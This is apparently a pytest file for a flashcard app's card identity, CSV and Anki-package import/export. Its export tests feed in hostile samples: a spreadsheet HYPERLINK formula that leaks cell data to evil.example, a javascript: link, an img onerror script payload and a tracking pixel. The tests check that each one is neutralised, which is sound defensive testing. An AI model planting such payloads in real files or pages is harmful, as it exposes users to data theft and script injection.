"""Card identity across profiles, duplicates on import, and exports that carry nothing hostile.

Issue 12 item 7 (guids unique only inside one profile; re-imports doubling every card) and
issue 13 item 5 (javascript: links, remote images and spreadsheet formulas in exports).
"""
from __future__ import annotations

import csv
import sqlite3
import zipfile

from sqlite_utils import Database

from studyapp.srs.apkg import export_apkg
from studyapp.srs.cards import Cards
from studyapp.srs.csvio import export_csv, import_csv
from studyapp.store import open_profile
from studyapp.store.cards import shipped_guid
from studyapp.store.migrations import MIGRATIONS, migrate


def _notes(apkg, folder) -> dict[str, list[str]]:
    """guid -> fields of every note in an .apkg."""
    folder.mkdir()
    with zipfile.ZipFile(apkg) as package:
        package.extract("collection.anki2", folder)
    db = sqlite3.connect(folder / "collection.anki2")
    try:
        return {g: f.split("\x1f") for g, f in db.execute("SELECT guid, flds FROM notes")}
    finally:
        db.close()


def test_two_learners_cards_never_share_an_anki_guid(tmp_path, clock, course_decks, shipped):
    exports = []
    for learner in ("ann", "bob"):
        store = open_profile(tmp_path / learner, clock=clock).store
        cards = Cards(store)
        cards.sync_decks(course_decks)
        cards.add(f"{learner}'s question", f"{learner}'s answer")   # the same card id in both
        exports.append(_notes_after_export(cards, tmp_path / learner))
        store.close()
    ann, bob = exports
    own = lambda notes, who: {g for g, f in notes.items() if f[0].startswith(who)}
    assert own(ann, "ann").isdisjoint(bob)                # Anki cannot overwrite one with the other
    shipped_notes = set(ann) - own(ann, "ann")
    assert shipped_notes == set(bob) - own(bob, "bob")          # the same shipped card is the same note
    assert len(shipped_notes) == shipped


def _notes_after_export(cards, folder):
    out = folder / "deck.apkg"
    export_apkg(cards, out)
    notes = _notes(out, folder / "unzipped")
    stored = {row["guid"] for row in cards.search("", limit=100)}
    assert set(notes) == stored                           # the note guid is the stored one
    return notes


def test_migration_gives_existing_cards_their_guids(tmp_path, clock):
    folder = tmp_path / "old"
    folder.mkdir()
    db = Database(folder / "profile.sqlite3")
    migrate(db, MIGRATIONS[:5])                           # a profile from before guids
    for i, key in enumerate(("course:kl", None, None)):
        db.execute("INSERT INTO deck (id, title, created_at) VALUES ('d', 'D', 'x') "
                   "ON CONFLICT DO NOTHING")
        db.execute("INSERT INTO card (deck_id, source_key, front, back, origin, created_at, "
                   "updated_at, due) VALUES ('d', ?, ?, 'b', 'deck', 'x', 'x', 'x')", [key, f"f{i}"])
    db.conn.commit()
    db.close()
    store = open_profile(folder, clock=clock).store
    guids = [r[0] for r in store.db.execute("SELECT guid FROM card ORDER BY id")]
    store.close()
    assert guids[0] == shipped_guid("course:kl") and len(set(guids)) == 3 and all(guids)


def test_importing_the_same_file_twice_adds_nothing_the_second_time(cards, tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text("front,back\nQ1,A1\nQ2,A2\nQ1,A1\n", encoding="utf-8")
    first = import_csv(cards, path)
    assert (len(first.added), first.skipped) == (2, 1)    # the repeated row inside the file too
    again = import_csv(cards, path)
    assert (again.added, again.updated, again.skipped) == ([], [], 3)
    assert again.text() == "Imported 0 cards. Skipped 3 cards already present."


def test_reimporting_an_export_updates_by_guid_and_skips_the_rest(cards, tmp_path):
    card_id = cards.add("What does beta weigh?", "The KL penalty")
    out = tmp_path / "all.csv"
    total = export_csv(cards, out)
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    for row in rows:
        if row[0] == "What does beta weigh?":
            row[1] = "The KL penalty against the SFT model"
    with out.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    report = import_csv(cards, out)
    assert (report.added, report.updated, report.skipped) == ([], [card_id], total - 1)
    assert cards.get(card_id).back == "The KL penalty against the SFT model"
    assert cards.count() == total


def test_csv_export_escapes_formulas_and_round_trips_exactly(cards, tmp_path):
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 more", "-x", "@SUM(A1)",
             "'=already quoted", "plain 'quote'", "a = b"]
    ids = [cards.add(text, f"answer {i}") for i, text in enumerate(texts)]
    out = tmp_path / "cards.csv"
    export_csv(cards, out)
    fronts = {row[0] for row in csv.reader(out.open(encoding="utf-8", newline=""))}
    assert {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1 more", "'-x",
            "'@SUM(A1)", "''=already quoted", "plain 'quote'", "a = b"} <= fronts
    for card_id in ids:
        cards.delete(card_id)
    report = import_csv(cards, out)
    assert sorted(cards.get(i).front for i in report.added) == sorted(texts)


def test_apkg_export_carries_no_script_links_or_remote_images(cards, tmp_path):
    cards.add("[click me](javascript:alert(1)) and ![pixel](https://tracker.example/p.gif)",
              "<img src=x onerror=alert(1)> ![local](diagram.png) [docs](https://example.org)")
    out = tmp_path / "deck.apkg"
    export_apkg(cards, out)
    notes = _notes(out, tmp_path / "unzipped")
    [(front, back, _lesson)] = [f for f in notes.values() if "click me" in f[0]]
    assert "javascript:" not in front and "tracker.example" not in front
    assert "<img" in front and "src=" not in front               # the pixel lost its source
    assert "<img src=x" not in back and "&lt;img src=x onerror" in back   # raw HTML is text
    assert 'src="diagram.png"' in back                            # local media is fine
    assert 'href="https://example.org"' in back


def test_long_exports_and_imports_report_progress_to_the_last_card(cards, tmp_path):
    cards.add_many([{"front": f"Q{i}", "back": "A"} for i in range(2500)])
    total = cards.count()
    for export in (export_csv, export_apkg):
        steps: list[int] = []
        assert export(cards, tmp_path / f"out.{export.__name__}", progress=steps.append) == total
        assert sum(steps) == total and len(steps) >= 3     # every 1000 cards, then the rest
    path = tmp_path / "more.csv"
    path.write_text("front,back\n" + "".join(f"new {i},A\n" for i in range(1200)), encoding="utf-8")
    steps = []
    assert len(import_csv(cards, path, progress=steps.append).added) == 1200
    assert steps == [1000, 200]
